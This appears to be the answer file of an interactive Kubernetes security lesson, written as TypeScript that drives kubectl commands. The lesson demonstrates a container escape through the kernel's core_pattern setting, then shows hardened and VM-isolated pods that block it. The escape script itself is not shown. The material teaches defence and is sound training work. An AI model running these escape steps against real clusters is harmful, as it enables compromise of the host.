import type { LessonSolutions, Reader } from '#lessons/code.ts';

const ready = (reader: Reader, pod: string) =>
  reader.run(`kubectl wait --for=condition=Ready pod/${pod} --timeout=300s`);

async function runEvil(reader: Reader): Promise<void> {
  await reader.apply('evil.yaml');
  await ready(reader, 'evil');
}

async function repair(reader: Reader): Promise<void> {
  await reader.run('kubectl delete pod evil --ignore-not-found');
  await reader.run('echo core > /proc/sys/kernel/core_pattern');
}

export default {
  'a-file-that-runs-programs': async (reader) => {
    await reader.run('cat /proc/sys/kernel/core_pattern');
    await runEvil(reader);
  },
  'out-of-the-container': async (reader) => {
    await runEvil(reader);
    await reader.run("kubectl exec evil -- grep '^overlay / ' /proc/mounts");
    await reader.run('kubectl exec -i evil -- sh -s < escape.sh');
  },
  'what-would-have-stopped-it': async (reader) => {
    await repair(reader);
    await reader.apply('tame.yaml');
    await ready(reader, 'tame');
    await reader.run("kubectl exec tame -- sh -c 'echo x > /proc/sys/kernel/core_pattern'");
  },
  'the-same-in-a-machine': async (reader) => {
    await repair(reader);
    await reader.apply('caged.yaml');
    await ready(reader, 'caged');
    await reader.run('kubectl exec -i caged -- sh -s < escape.sh');
  },
} satisfies LessonSolutions;
